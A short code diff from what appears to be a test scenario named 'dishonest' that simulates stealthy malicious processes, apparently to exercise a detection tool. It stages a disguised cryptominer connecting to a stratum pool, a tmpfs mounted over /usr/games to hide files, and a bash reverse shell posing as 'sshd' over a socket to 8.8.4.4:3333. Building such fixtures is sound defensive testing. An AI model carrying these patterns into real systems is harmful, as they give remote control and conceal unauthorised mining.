@@ -100,7 +100,8 @@ def dishonest(scene):
     pids["memory"] = scene.start("-s", "-w", path=f"/proc/self/fd/{memory}", pass_fds=(memory,))
     subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/usr/games"], check=True)
     pids["reader"] = scene.start("-s", "-c", "3333", "stratum+tcp://pool", path="/usr/games/top")
-    far = scene.far = socket.create_connection(("8.8.4.4", 3333))
+    far = socket.socket()
+    far.connect(("8.8.4.4", 3333))
     pids["shell"] = subprocess.Popen(["sshd"], executable="/bin/bash", stdin=far, stdout=far, stderr=far).pid
     pids["covered"] = scene.start("-s", path=SHM / "c")
     (SHM / "empty").mkdir()
